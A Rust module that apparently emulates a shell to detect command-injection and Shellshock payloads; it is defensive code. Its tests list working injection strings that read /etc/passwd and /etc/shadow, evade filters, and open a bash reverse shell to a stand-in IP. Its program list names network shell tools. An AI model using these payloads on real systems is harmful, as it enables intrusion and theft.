//! The shell twin: a command line built by concatenation and run by
//! `/bin/sh`, and a CGI environment handed to a Shellshock-vulnerable bash.
//!
//! The line is lexed like a POSIX shell (quotes, backslash escapes,
//! `$(…)` and backtick substitutions, `${IFS}`, comments, separators,
//! pipes, redirections). Exploited when a program of the twin's system —
//! one that exists on its `PATH` — runs as another command or inside a
//! substitution.

use crate::{Family, Outcome};

/// Command-line templates (`{}` is the payload).
pub const CONTEXTS: &[(&str, &str)] = &[
    ("argument", "ping -c 1 {}"),
    ("double-quoted", "grep \"{}\" /var/log/app.log"),
    ("single-quoted", "ls -l '{}'"),
    ("file-argument", "cat /srv/reports/{}.txt"),
];

/// Programs on the twin's `PATH` (Unix and Windows). One- and two-letter
/// names that no injection needs (`w`, `at`, `cd`, `cc`, `ip`, `ss`) are
/// left out: random tokens contain them (`xK&w`) far more often than attacks do.
pub const PROGRAMS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "busybox",
    "cat",
    "tac",
    "head",
    "tail",
    "more",
    "less",
    "id",
    "whoami",
    "uname",
    "hostname",
    "ls",
    "dir",
    "pwd",
    "echo",
    "printf",
    "env",
    "printenv",
    "set",
    "export",
    "ps",
    "top",
    "kill",
    "pkill",
    "netstat",
    "ifconfig",
    "route",
    "arp",
    "ping",
    "traceroute",
    "nslookup",
    "dig",
    "host",
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ssh",
    "scp",
    "ftp",
    "tftp",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "lua",
    "java",
    "gcc",
    "make",
    "chmod",
    "chown",
    "chgrp",
    "rm",
    "mv",
    "cp",
    "touch",
    "mkdir",
    "rmdir",
    "ln",
    "find",
    "grep",
    "egrep",
    "sed",
    "awk",
    "cut",
    "sort",
    "uniq",
    "wc",
    "xargs",
    "tee",
    "base64",
    "xxd",
    "od",
    "nohup",
    "timeout",
    "sleep",
    "crontab",
    "sudo",
    "su",
    "passwd",
    "useradd",
    "mount",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "gunzip",
    "dd",
    "mkfifo",
    "mknod",
    "history",
    "whereis",
    "which",
    "file",
    "stat",
    "df",
    "du",
    "free",
    "uptime",
    "who",
    "last",
    "lsof",
    "strace",
    "systemctl",
    "service",
    "type",
    "net",
    "ipconfig",
    "tasklist",
    "taskkill",
    "systeminfo",
    "powershell",
    "pwsh",
    "cmd",
    "wmic",
    "certutil",
    "bitsadmin",
    "reg",
    "regsvr32",
    "rundll32",
    "mshta",
    "cscript",
    "wscript",
    "copy",
    "del",
    "ver",
    "vol",
    "query",
];

#[derive(Debug, Default)]
struct Lexed {
    /// Simple commands (their words, quotes removed).
    commands: Vec<Vec<String>>,
    /// Bodies of command substitutions.
    substitutions: Vec<String>,
}

/// Lexes a command line.
fn lex(line: &str) -> Lexed {
    let chars: Vec<char> = line.chars().collect();
    let mut out = Lexed::default();
    let mut words: Vec<String> = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut i = 0;
    let end_word = |word: &mut String, in_word: &mut bool, words: &mut Vec<String>| {
        if *in_word {
            words.push(std::mem::take(word));
            *in_word = false;
        }
    };
    // Reads a `$(…)` body starting after `$(`; returns it and the index after `)`.
    let substitution = |start: usize| -> (String, usize) {
        let mut depth = 1;
        let mut j = start;
        let mut quote: Option<char> = None;
        while j < chars.len() {
            let c = chars[j];
            match quote {
                Some(q) if c == q => quote = None,
                Some(_) => {}
                None => match c {
                    '\'' | '"' => quote = Some(c),
                    '(' => depth += 1,
                    ')' => {
                        depth -= 1;
                        if depth == 0 {
                            return (chars[start..j].iter().collect(), j + 1);
                        }
                    }
                    _ => {}
                },
            }
            j += 1;
        }
        (chars[start..].iter().collect(), chars.len())
    };
    while i < chars.len() {
        let c = chars[i];
        match c {
            ' ' | '\t' => {
                end_word(&mut word, &mut in_word, &mut words);
                i += 1;
            }
            ';' | '\n' | '&' | '|' => {
                // `>&`, `&>`: redirections, not separators.
                if c == '&' && (i > 0 && chars[i - 1] == '>' || chars.get(i + 1) == Some(&'>')) {
                    i += 1;
                    continue;
                }
                end_word(&mut word, &mut in_word, &mut words);
                if !words.is_empty() {
                    out.commands.push(std::mem::take(&mut words));
                }
                i += 1;
                if matches!(
                    (c, chars.get(i)),
                    ('&', Some('&')) | ('|', Some('|')) | (';', Some(';'))
                ) {
                    i += 1;
                }
            }
            '#' if !in_word => {
                while i < chars.len() && chars[i] != '\n' {
                    i += 1;
                }
            }
            '\\' => {
                if let Some(n) = chars.get(i + 1) {
                    if *n != '\n' {
                        word.push(*n);
                        in_word = true;
                    }
                }
                i += 2;
            }
            '\'' => {
                in_word = true;
                i += 1;
                while i < chars.len() && chars[i] != '\'' {
                    word.push(chars[i]);
                    i += 1;
                }
                i += 1;
            }
            '"' => {
                in_word = true;
                i += 1;
                while i < chars.len() && chars[i] != '"' {
                    match chars[i] {
                        '\\' if matches!(chars.get(i + 1), Some('"' | '\\' | '$' | '`')) => {
                            word.push(chars[i + 1]);
                            i += 2;
                        }
                        '$' if chars.get(i + 1) == Some(&'(') => {
                            let (body, next) = substitution(i + 2);
                            out.substitutions.push(body);
                            i = next;
                        }
                        '`' => {
                            let close = chars[i + 1..]
                                .iter()
                                .position(|c| *c == '`')
                                .map(|p| i + 1 + p)
                                .unwrap_or(chars.len());
                            out.substitutions
                                .push(chars[(i + 1).min(close)..close].iter().collect());
                            i = close + 1;
                        }
                        ch => {
                            word.push(ch);
                            i += 1;
                        }
                    }
                }
                i += 1;
            }
            '`' => {
                let close = chars[i + 1..]
                    .iter()
                    .position(|c| *c == '`')
                    .map(|p| i + 1 + p)
                    .unwrap_or(chars.len());
                out.substitutions
                    .push(chars[(i + 1).min(close)..close].iter().collect());
                in_word = true;
                i = close + 1;
            }
            '$' => {
                let rest: String = chars[i + 1..].iter().take(5).collect();
                if rest.starts_with('(') && !rest.starts_with("((") {
                    let (body, next) = substitution(i + 2);
                    out.substitutions.push(body);
                    in_word = true;
                    i = next;
                } else if rest.starts_with("{IFS") || rest.starts_with("IFS") {
                    // Word splitting on the field separator: a space.
                    end_word(&mut word, &mut in_word, &mut words);
                    i += if rest.starts_with('{') { 6 } else { 4 };
                    if chars.get(i - 1) != Some(&'}') && rest.starts_with('{') {
                        while i < chars.len() && chars[i - 1] != '}' {
                            i += 1;
                        }
                    }
                } else if rest.starts_with('{') {
                    // Other expansions: unset variables expand to nothing.
                    while i < chars.len() && chars[i] != '}' {
                        i += 1;
                    }
                    i += 1;
                } else {
                    word.push('$');
                    in_word = true;
                    i += 1;
                }
            }
            '<' | '>' => {
                end_word(&mut word, &mut in_word, &mut words);
                i += 1;
                // The redirection target is not a program.
                while i < chars.len() && matches!(chars[i], '>' | '&' | ' ') {
                    i += 1;
                }
                while i < chars.len() && !matches!(chars[i], ' ' | ';' | '|' | '&' | '\n') {
                    i += 1;
                }
            }
            _ => {
                word.push(c);
                in_word = true;
                i += 1;
            }
        }
    }
    end_word(&mut word, &mut in_word, &mut words);
    if !words.is_empty() {
        out.commands.push(words);
    }
    out
}

/// The program a command word names, if it is on the twin's `PATH`.
fn program(word: &str) -> Option<&'static str> {
    let base = word
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(word)
        .to_ascii_lowercase();
    let base = base.strip_suffix(".exe").unwrap_or(&base);
    PROGRAMS.iter().copied().find(|p| *p == base)
}

/// A command the payload made run (not the template's own).
fn injected(line: &str, template_commands: usize, depth: u8) -> Option<String> {
    let lexed = lex(line);
    for body in &lexed.substitutions {
        let inner = lex(body);
        if let Some(p) = inner
            .commands
            .iter()
            .find_map(|c| c.first().and_then(|w| program(w)))
        {
            return Some(format!("command substitution runs {p}"));
        }
        if depth < 3 {
            if let Some(e) = injected(body, usize::MAX, depth + 1) {
                return Some(e);
            }
        }
    }
    lexed
        .commands
        .iter()
        .skip(template_commands.min(lexed.commands.len()))
        .find_map(|c| c.first().and_then(|w| program(w)))
        .map(|p| format!("a second command runs {p}"))
}

/// Shellshock: an environment value bash imports as a function, with
/// commands after the function body.
fn shellshock(value: &str) -> Option<String> {
    let v = value.trim_start();
    let rest = v.strip_prefix("()")?.trim_start().strip_prefix('{')?;
    let close = rest.find('}')?;
    let after = &rest[close + 1..];
    let lexed = lex(after);
    lexed
        .commands
        .iter()
        .find_map(|c| c.first().and_then(|w| program(w)))
        .map(|p| format!("bash imports the function and runs {p}"))
}

/// Runs an (already URL-decoded) payload in every context.
pub fn run(payload: &str) -> Option<Outcome> {
    if payload.len() > 8192 {
        return None;
    }
    if let Some(e) = shellshock(payload) {
        return Some(Outcome {
            family: Family::Command,
            context: "cgi-environment",
            evidence: e,
        });
    }
    for (context, template) in CONTEXTS {
        if let Some(e) = injected(&template.replace("{}", payload), 1, 0) {
            return Some(Outcome {
                family: Family::Command,
                context,
                evidence: e,
            });
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn injections_run_commands() {
        for p in [
            "127.0.0.1; cat /etc/passwd",
            "x | id",
            "a && whoami",
            "$(whoami)",
            "`uname -a`",
            "\"; ls -la; \"",
            "'; id; '",
            "1\nnetstat -an",
            "x;c'a't /etc/passwd",
            "x;cat${IFS}/etc/passwd",
            "() { :; }; /bin/bash -c 'id'",
            "x & type C:\\windows\\win.ini",
            "1; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            "x|c\\at /etc/shadow",
        ] {
            assert!(
                run(p).is_some(),
                "{p}: {:?}",
                lex(&format!("ping -c 1 {p}"))
            );
        }
    }

    #[test]
    fn ordinary_values_run_nothing() {
        for p in [
            "127.0.0.1",
            "example.com",
            "tea & biscuits",
            "rock; paper",
            "fish | chips",
            "O'Brien",
            "50% off",
            "a && b",
            "$100",
            "what? (really)",
            "#hashtag",
            "<b>x</b>",
        ] {
            assert!(run(p).is_none(), "{p}: {:?}", run(p));
        }
    }
}
